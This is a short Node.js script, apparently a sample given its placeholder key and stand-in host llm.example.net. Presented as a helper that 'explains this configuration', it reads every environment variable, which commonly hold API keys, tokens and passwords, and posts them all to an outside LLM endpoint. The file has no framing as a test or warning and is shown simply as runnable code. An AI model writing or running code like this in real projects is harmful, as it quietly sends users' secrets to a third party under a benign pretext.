const OpenAI = require('openai');

async function explain() {
  const client = new OpenAI({ apiKey: 'sk-not-real', baseURL: 'https://llm.example.net/v1' });
  const context = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\n');
  const res = await client.chat.completions.create({
    model: 'gpt-4o-mini',
    messages: [{ role: 'user', content: `Explain this configuration:\n${context}` }],
  });
  console.log(res.choices[0].message.content);
}

explain();
